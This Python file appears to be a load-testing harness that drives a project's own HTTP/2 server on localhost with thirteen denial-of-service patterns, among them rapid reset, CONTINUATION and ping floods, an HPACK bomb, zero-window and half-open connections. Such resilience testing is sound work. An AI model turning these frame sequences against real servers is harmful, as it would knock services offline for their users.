"""Peers that want a server of HTTP/2 to hold or to do more than it should.

    python -m benchmarks.load.attack PORT NAME SECONDS

A process of its own. Each connection that the server ends is followed by a new one. Writes how many
connections there were.
"""

from __future__ import annotations

import asyncio
import itertools
import sys
import time
from asyncio import StreamReader, StreamWriter
from collections.abc import Callable, Iterator
from struct import pack

import msgspec
import uvloop

from benchmarks.load import wire
from epp.http2 import frames
from epp.http2.frames import FrameType, frame

PAUSE_S = 0.1  # between the end of a connection and the next


class Attack(msgspec.Struct, frozen=True):
    """What each of so many connections says after its hello."""

    name: str
    parts: Callable[[], Iterator[bytes]]
    connections: int = 1
    hello: bytes = wire.HELLO
    heeds: bool = True  # reads what the server says


# --- what is too often ---------------------------------------------------------------------------


def _resets() -> Iterator[bytes]:
    for n in wire.stream_ids():
        yield wire.process(n) + frames.reset(n, 8)


def _continuations() -> Iterator[bytes]:
    yield frame(FrameType.HEADERS, 0, 1)
    yield from itertools.repeat(frame(FrameType.CONTINUATION, 0, 1) * 10)


def _pings() -> Iterator[bytes]:
    return itertools.repeat(frame(FrameType.PING, 0, 0, bytes(8)) * 100)


def _settings() -> Iterator[bytes]:
    return itertools.repeat(frame(FrameType.SETTINGS, 0, 0, pack(">HL", 4, 1000)) * 20)


def _priorities() -> Iterator[bytes]:
    return itertools.repeat(frame(FrameType.PRIORITY, 0, 1, bytes(5)) * 200)


def _empty_data() -> Iterator[bytes]:
    yield wire.process(1)
    yield from itertools.repeat(frame(FrameType.DATA, 0, 1) * 50)


# --- what is too much ----------------------------------------------------------------------------


def _bombs() -> Iterator[bytes]:
    entry = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
    yield frame(FrameType.HEADERS, frames.END_HEADERS, 1, wire.CALL + entry)
    for n in wire.stream_ids(3):
        yield frame(FrameType.HEADERS, frames.END_HEADERS, n, wire.CALL + b"\xbe" * 16_000)


def _huge_lists() -> Iterator[bytes]:
    yield frame(FrameType.HEADERS, 0, 1, bytes(16_000))
    yield from itertools.repeat(frame(FrameType.CONTINUATION, 0, 1, bytes(16_000)))


def _windows() -> Iterator[bytes]:
    return itertools.repeat(frames.window_update(0, frames.MAX_WINDOW))


# --- what is held --------------------------------------------------------------------------------


def _unread() -> Iterator[bytes]:
    for n in wire.stream_ids(stop=1600):
        yield wire.process(n) + wire.request(n)


def _idle() -> Iterator[bytes]:
    for n in wire.stream_ids(stop=20_000):
        yield wire.process(n)


def _nothing() -> Iterator[bytes]:
    return iter(())


ATTACKS = (
    Attack("rapid-reset", _resets),
    Attack("continuation", _continuations),
    Attack("ping", _pings),
    Attack("settings", _settings),
    Attack("priority", _priorities),
    Attack("empty-data", _empty_data),
    Attack("hpack-bomb", _bombs),
    Attack("huge-headers", _huge_lists),
    Attack("window-overflow", _windows),
    Attack("zero-window", _unread, hello=wire.hello(window=0)),
    Attack("idle-streams", _idle),
    Attack("slow-preface", _nothing, connections=500, hello=b"PRI"),
    Attack("half-open", _nothing, connections=500, heeds=False),
)


class Attacker:
    """One connection after another, until the time is over."""

    def __init__(self, port: int, attack: Attack, seconds: float) -> None:
        self.connections = 0
        self._port = port
        self._attack = attack
        self._ends_at = time.monotonic() + seconds

    async def run(self) -> None:
        """Keep so many connections busy."""
        async with asyncio.TaskGroup() as group:
            for _ in range(self._attack.connections):
                group.create_task(self._keep())

    @property
    def _left_s(self) -> float:
        return self._ends_at - time.monotonic()

    async def _keep(self) -> None:
        while self._left_s > 0:
            reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
            self.connections += 1
            try:
                async with asyncio.timeout(self._left_s):
                    await self._talk(reader, writer)
            except* (ConnectionError, TimeoutError):
                pass
            writer.transport.abort()
            await asyncio.sleep(PAUSE_S)

    async def _talk(self, reader: StreamReader, writer: StreamWriter) -> None:
        writer.write(self._attack.hello)
        if not self._attack.heeds:
            await asyncio.sleep(self._left_s)
        async with asyncio.TaskGroup() as group:
            speaking = group.create_task(self._speak(writer))
            while await reader.read(65536):
                pass
            speaking.cancel()

    async def _speak(self, writer: StreamWriter) -> None:
        for part in self._attack.parts():
            writer.write(part)
            await writer.drain()
            await asyncio.sleep(0)


def named(name: str) -> Attack:
    """Return one of `ATTACKS`."""
    return next(attack for attack in ATTACKS if attack.name == name)


def main() -> None:
    port, name, seconds = sys.argv[1:]
    attacker = Attacker(int(port), named(name), float(seconds))
    print("ready", flush=True)
    uvloop.run(attacker.run())
    print(attacker.connections, flush=True)


if __name__ == "__main__":
    main()
